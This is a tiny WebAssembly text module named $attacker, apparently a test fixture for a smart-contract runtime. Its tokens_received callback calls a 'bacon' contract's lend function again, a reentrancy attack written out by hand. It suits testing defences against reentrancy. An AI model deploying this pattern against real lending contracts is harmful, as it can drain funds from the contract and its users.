;; The attack by hand.

(module $attacker
  (import "contract:bacon" "lend" (func $bacon.lend (param i64)))
  (memory $memory (export "memory") 1)

  (func $main (export "main"))

  (func $tokens_received (export "tokens_received") (param $amount i64)
    (call $bacon.lend (local.get $amount))))
